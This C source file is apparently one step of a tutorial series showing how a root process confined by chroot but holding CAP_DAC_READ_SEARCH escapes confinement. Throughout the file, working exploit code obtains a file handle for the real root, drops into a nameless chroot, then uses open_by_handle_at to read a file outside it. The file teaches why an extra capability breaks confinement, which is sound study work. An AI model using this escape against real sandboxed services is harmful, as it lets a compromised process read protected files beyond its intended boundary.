/* step16-escape.c - an attack that works: root with one capability too many
 *
 *   ./step16-escape FILE      as root
 *
 * A web server with uid 0 is shut up in an empty directory.  It has
 * CAP_NET_BIND_SERVICE for its port, and CAP_DAC_READ_SEARCH because some of its
 * pages are not readable for all.  Whoever takes it over reads FILE, outside.
 *
 * New in this step: with CAP_DAC_READ_SEARCH open_by_handle_at(2) opens a file by
 * its inode number.  There is no path, so no root directory holds it back. */
#include <err.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/capability.h>
#include <sys/stat.h>
#include <unistd.h>

/* split: an absolute path into its mount point, and (after that length) what is below */
static size_t split(const char *path, char *point)
{
	struct stat file, dir;
	size_t length = 1;

	memcpy(point, "/", 2);
	while (stat(path, &file) == 0 && stat(point, &dir) == 0 && dir.st_dev != file.st_dev) {
		length += strcspn(path + length, "/") + 1;
		snprintf(point, PATH_MAX, "%.*s", (int)length, path);	/* fits: a part of path */
	}
	return length;
}

/* handle_of: most often an inode number and a generation.  It is no secret. */
static struct file_handle *handle_of(const char *path)
{
	static _Alignas(struct file_handle) char space[sizeof(struct file_handle) + MAX_HANDLE_SZ];
	struct file_handle *handle = (struct file_handle *)space;
	int mount;
	handle->handle_bytes = MAX_HANDLE_SZ;
	if (name_to_handle_at(AT_FDCWD, path, handle, &mount, 0) == -1)
		err(errno == EOPNOTSUPP ? 77 : 1, "%s: no handles on this file system", path);
	printf("handle of its root:");
	for (unsigned int i = 0; i < handle->handle_bytes; i++)
		printf("%s%02x", i % 4 == 0 ? " " : "", handle->f_handle[i]);
	printf("\n");
	return handle;
}

/* shut_up: into a nameless directory on the same file system */
static void shut_up(const char *path)
{
	char dir[PATH_MAX + 8];

	snprintf(dir, sizeof(dir), "%s.XXXXXX", path);	/* fits: 7 bytes more than path */
	if (!mkdtemp(dir) || chdir(dir) == -1 || rmdir(dir) == -1 || chroot(".") == -1)
		err(1, "%s", dir);
}

static void keep(int count, const cap_value_t *kept)
{
	cap_t caps = cap_init();

	if (!caps || cap_set_flag(caps, CAP_PERMITTED, count, kept, CAP_SET) == -1 ||
	    cap_set_flag(caps, CAP_EFFECTIVE, count, kept, CAP_SET) == -1 || cap_set_proc(caps) == -1)
		err(1, "cap_set_proc");
	printf("the service has:   %s\n", cap_to_text(caps, NULL));
}

static void print(const char *how, int fd)
{
	char text[256];
	ssize_t length = fd == -1 ? -1 : read(fd, text, sizeof(text));

	if (length == -1)
		length = snprintf(text, sizeof(text), "%s\n", strerror(errno));
	printf("%s%.*s", how, (int)length, text);
}

int main(int argc, char **argv)
{
	static const cap_value_t kept[] = { CAP_NET_BIND_SERVICE, CAP_DAC_READ_SEARCH };
	char path[PATH_MAX] = "", point[PATH_MAX];

	if (argc != 2)
		errx(2, "usage: step16-escape FILE");
	if (!realpath(argv[1], path))
		err(1, "%s", argv[1]);
	size_t length = split(path, point);
	struct file_handle *root = handle_of(point);

	shut_up(path);
	keep(sizeof(kept) / sizeof(kept[0]), kept);
	print("by its path:       ", open(path, O_RDONLY | O_CLOEXEC));
	int dir = open_by_handle_at(AT_FDCWD, root, O_RDONLY | O_DIRECTORY | O_CLOEXEC);

	print("by the handle:     ", dir == -1 ? -1 : openat(dir, path + length, O_RDONLY | O_CLOEXEC));
}
